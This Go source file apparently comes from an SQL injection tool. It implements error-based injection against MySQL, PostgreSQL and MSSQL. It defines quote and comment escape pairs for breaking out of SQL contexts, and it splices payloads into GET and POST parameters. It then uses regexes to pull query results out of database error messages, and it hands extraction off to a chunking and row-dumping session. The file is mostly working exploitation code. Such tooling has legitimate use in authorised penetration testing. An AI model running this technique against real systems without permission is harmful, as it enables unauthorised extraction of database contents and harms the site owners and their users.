// Package errorbased implements the error-based SQL injection technique.
//
// Error-based injection extracts data by forcing the database to include
// query results in error messages. This is the fastest technique because
// data is returned directly in a single HTTP response, unlike boolean-based
// (which requires bit-by-bit extraction) or time-based (which requires delays).
//
// Detect probes each DBMS's error-payload templates directly, matching
// dialect-specific error text. Extract hands the same templates to
// errorextract, which brackets the query's output in a unique marker pair
// instead of relying on dialect-specific error text, so it can also
// chunk truncated output, cache resumed values, and expand multi-row
// expressions.
package errorbased

import (
	"context"
	"fmt"
	"net/url"
	"regexp"
	"strings"

	"github.com/dvorasec/errsqli/internal/agent"
	"github.com/dvorasec/errsqli/internal/dbms"
	"github.com/dvorasec/errsqli/internal/engine"
	"github.com/dvorasec/errsqli/internal/errorextract"
	"github.com/dvorasec/errsqli/internal/marker"
	"github.com/dvorasec/errsqli/internal/payload"
	"github.com/dvorasec/errsqli/internal/resume"
	"github.com/dvorasec/errsqli/internal/technique"
	"github.com/dvorasec/errsqli/internal/transport"
)

// prefixSuffixPairs defines common SQL context escape combinations to try.
// Each pair is (prefix, suffix).
var prefixSuffixPairs = []struct {
	prefix string
	suffix string
}{
	{"", "-- "},
	{"'", "-- "},
	{"\"", "-- "},
	{")", "-- "},
	{"')", "-- "},
	{"", "#"},
	{"'", "#"},
}

// Regex patterns for extracting data from error messages.
var (
	// mysqlTildePattern matches MySQL XPATH error output: ~<DATA>~ or ~<DATA>'
	// The tilde (0x7e) is used as a delimiter in concat(0x7e, ...) payloads.
	mysqlTildePattern = regexp.MustCompile(`~([^~']+)`)

	// postgresqlCastPattern matches PostgreSQL CAST type error output:
	// invalid input syntax for type integer: "<DATA>"
	postgresqlCastPattern = regexp.MustCompile(`invalid input syntax for type integer: "([^"]+)"`)

	// mssqlConvertPattern matches MSSQL CONVERT/CAST type conversion error output:
	// Conversion failed when converting the varchar value '<DATA>' to data type int.
	mssqlConvertPattern = regexp.MustCompile(`(?i)Conversion failed when converting the (?:n?varchar|nchar|char|ntext|text) value '([^']+)' to data type`)
)

// ErrorBased implements the error-based SQL injection technique.
type ErrorBased struct{}

// New creates a new ErrorBased technique instance.
func New() *ErrorBased {
	return &ErrorBased{}
}

// Name returns the technique name.
func (e *ErrorBased) Name() string {
	return "error-based"
}

// Priority returns 1 (highest priority), as error-based is the fastest technique.
func (e *ErrorBased) Priority() int {
	return 1
}

// Detect tests whether a parameter is vulnerable to error-based SQL injection.
//
// It works by:
// 1. Collecting error payload templates for the target DBMS (or all DBMS if unknown)
// 2. For each template, substituting the version query to create a test payload
// 3. Trying common prefix/suffix combinations to escape the SQL context
// 4. Sending the crafted payload and checking for extracted data in error messages
func (e *ErrorBased) Detect(ctx context.Context, req *technique.InjectionRequest) (*technique.DetectionResult, error) {
	templates := collectPayloadTemplates(req.DBMS)
	if len(templates) == 0 {
		return &technique.DetectionResult{Injectable: false}, nil
	}

	for _, tmpl := range templates {
		d := dbms.Registry(tmpl.DBMS)
		if d == nil {
			continue
		}

		// Use VersionQuery as the detection probe
		versionQuery := d.VersionQuery()
		rendered, err := renderTemplate(tmpl.Template, versionQuery)
		if err != nil {
			continue
		}

		for _, ps := range prefixSuffixPairs {
			fullPayload := req.Parameter.Value + ps.prefix + " AND " + rendered + ps.suffix

			probeReq := buildProbeRequest(req.Target, req.Parameter, fullPayload)
			resp, err := req.Client.Do(ctx, probeReq)
			if err != nil {
				continue
			}

			body := resp.BodyString()
			extracted := parseErrorResponse(body, tmpl.DBMS)
			if extracted != "" {
				p := payload.NewBuilder().
					WithPrefix(ps.prefix).
					WithCore(" AND " + rendered).
					WithSuffix(ps.suffix).
					WithTechnique("error-based").
					WithDBMS(tmpl.DBMS).
					Build()

				return &technique.DetectionResult{
					Injectable: true,
					Confidence: 0.95,
					Technique:  "error-based",
					Payload:    p,
					Evidence:   extracted,
				}, nil
			}
		}
	}

	return &technique.DetectionResult{Injectable: false}, nil
}

// Extract retrieves the value of a SQL expression using error-based
// injection. Detection found that the target reflects query output through
// a SQL error message; Extract hands the actual retrieval (chunking,
// caching, row expansion) to errorextract, trying each DBMS error-payload
// template/escape-context combination until one of them yields output.
func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
	templates := collectPayloadTemplates(req.DBMS)
	if len(templates) == 0 {
		return nil, fmt.Errorf("no error payload templates for DBMS %q", req.DBMS)
	}

	for _, tmpl := range templates {
		d := dbms.Registry(tmpl.DBMS)
		if d == nil {
			continue
		}

		for _, ps := range prefixSuffixPairs {
			sess, closeSess, err := newExtractionSession(d, tmpl, ps.prefix, ps.suffix, req)
			if err != nil {
				continue
			}

			result, err := sess.Extract(ctx, req.Query)
			closeSess()
			if err != nil {
				continue
			}
			if result.Scalar == nil && result.Rows == nil {
				continue
			}

			var value string
			if result.Scalar != nil {
				value = *result.Scalar
			}

			return &technique.ExtractionResult{
				Value:    value,
				Partial:  result.Scalar == nil && len(result.Rows) == 0,
				Requests: int(sess.ErrorCount.Load()),
				Rows:     result.Rows,
			}, nil
		}
	}

	return &technique.ExtractionResult{Partial: true}, nil
}

// newExtractionSession builds an errorextract.Session bound to one
// (template, prefix, suffix) escape-context guess, backed by an in-memory
// resume cache scoped to this single Extract call. The returned closer
// releases that cache.
func newExtractionSession(d dbms.DBMS, tmpl dbms.PayloadTemplate, prefix, suffix string, req *technique.ExtractionRequest) (*errorextract.Session, func(), error) {
	store, err := resume.NewSQLiteStore(":memory:")
	if err != nil {
		return nil, nil, fmt.Errorf("errorbased: open resume cache: %w", err)
	}

	a := agent.New(agent.Vector{Prefix: prefix, Suffix: suffix, DBMS: d}, tmpl.Template)

	sess, err := errorextract.New(errorextract.Params{
		DBMS:      d,
		Agent:     a,
		Requester: &transportRequester{client: req.Client, target: req.Target, param: req.Parameter},
		Resume:    store,
		Config: errorextract.Config{
			Dump:       req.Dump,
			LimitStart: req.LimitStart,
			LimitStop:  req.LimitStop,
			Threads:    req.Threads,
		},
		InfoWriter: req.InfoWriter,
	})
	if err != nil {
		store.Close()
		return nil, nil, err
	}

	return sess, func() { store.Close() }, nil
}

// transportRequester adapts transport.Client to errorextract.Requester: it
// splices a forged payload fragment into the target parameter the same way
// Detect's probes do, and surfaces the redirect/UID bookkeeping
// errorextract's marker.Extractor needs to inspect a followed redirect.
type transportRequester struct {
	client transport.Client
	target *engine.ScanTarget
	param  *engine.Parameter
}

func (r *transportRequester) QueryPage(ctx context.Context, forged string) (errorextract.QueryResult, error) {
	fullPayload := r.param.Value + forged
	probeReq := buildProbeRequest(r.target, r.param, fullPayload)

	resp, err := r.client.Do(ctx, probeReq)
	if err != nil {
		return errorextract.QueryResult{}, err
	}

	var redirect *marker.RedirectMessage
	if resp.RedirectBody != nil {
		redirect = &marker.RedirectMessage{RequestUID: resp.RequestUID, Body: *resp.RedirectBody}
	}

	return errorextract.QueryResult{
		Body:       resp.BodyString(),
		Headers:    resp.Headers,
		RequestUID: resp.RequestUID,
		Redirect:   redirect,
	}, nil
}

// parseErrorResponse extracts data from SQL error messages in the response body.
//
// For MySQL (extractvalue/updatexml): looks for data after the ~ (0x7e) delimiter
// in patterns like "XPATH syntax error: '~<DATA>~'" or "~<DATA>'"
//
// For PostgreSQL (CAST): looks for data in patterns like
// 'invalid input syntax for type integer: "<DATA>"'
//
// When dbmsName is empty, all patterns are tried.
func parseErrorResponse(body string, dbmsName string) string {
	if body == "" {
		return ""
	}

	tryMySQL := dbmsName == "" || dbmsName == "MySQL" || dbmsName == "mysql"
	tryPostgreSQL := dbmsName == "" || dbmsName == "PostgreSQL" || dbmsName == "postgresql" || dbmsName == "postgres"
	tryMSSQL := dbmsName == "" || dbmsName == "MSSQL" || dbmsName == "mssql" || dbmsName == "sqlserver"

	if tryMySQL {
		if matches := mysqlTildePattern.FindStringSubmatch(body); len(matches) > 1 {
			return matches[1]
		}
	}

	if tryPostgreSQL {
		if matches := postgresqlCastPattern.FindStringSubmatch(body); len(matches) > 1 {
			return matches[1]
		}
	}

	if tryMSSQL {
		if matches := mssqlConvertPattern.FindStringSubmatch(body); len(matches) > 1 {
			return matches[1]
		}
	}

	return ""
}

// collectPayloadTemplates returns error payload templates for the given DBMS.
// If dbmsName is empty, templates from all supported DBMS are returned.
func collectPayloadTemplates(dbmsName string) []dbms.PayloadTemplate {
	if dbmsName != "" {
		d := dbms.Registry(dbmsName)
		if d == nil {
			return nil
		}
		return d.ErrorPayloads()
	}

	// Unknown DBMS: collect from all supported databases.
	var templates []dbms.PayloadTemplate
	for _, name := range []string{"MySQL", "PostgreSQL", "MSSQL"} {
		d := dbms.Registry(name)
		if d != nil {
			templates = append(templates, d.ErrorPayloads()...)
		}
	}
	return templates
}

// templatePlaceholder is the Go template-style placeholder used in
// dbms.PayloadTemplate.Template strings.
const templatePlaceholder = "{{.Query}}"

// renderTemplate substitutes the {{.Query}} placeholder in a PayloadTemplate
// string with the given query expression using simple string replacement.
func renderTemplate(tmplStr string, query string) (string, error) {
	if !strings.Contains(tmplStr, templatePlaceholder) {
		return "", fmt.Errorf("template missing %s placeholder", templatePlaceholder)
	}
	return strings.Replace(tmplStr, templatePlaceholder, query, 1), nil
}

// buildProbeRequest creates a transport.Request with the target parameter
// replaced by the payload value. It handles both query string (GET) and
// body (POST) parameter locations.
func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, payloadStr string) *transport.Request {
	req := &transport.Request{
		Method:      target.Method,
		URL:         target.URL,
		Body:        target.Body,
		ContentType: target.ContentType,
	}

	// Copy headers
	if target.Headers != nil {
		req.Headers = make(map[string]string, len(target.Headers))
		for k, v := range target.Headers {
			req.Headers[k] = v
		}
	}

	// Copy cookies
	if target.Cookies != nil {
		req.Cookies = make(map[string]string, len(target.Cookies))
		for k, v := range target.Cookies {
			req.Cookies[k] = v
		}
	}

	switch param.Location {
	case engine.LocationQuery:
		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
	case engine.LocationBody:
		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
	}

	return req
}

// modifyQueryParam replaces the value of a named query parameter in the URL.
func modifyQueryParam(rawURL, paramName, newValue string) string {
	parsed, err := url.Parse(rawURL)
	if err != nil {
		return rawURL
	}

	q := parsed.Query()
	q.Set(paramName, newValue)
	parsed.RawQuery = q.Encode()

	return parsed.String()
}

// modifyBodyParam replaces the value of a named parameter in a
// application/x-www-form-urlencoded body.
func modifyBodyParam(body, paramName, newValue string) string {
	values, err := url.ParseQuery(body)
	if err != nil {
		return body
	}

	values.Set(paramName, newValue)
	return values.Encode()
}
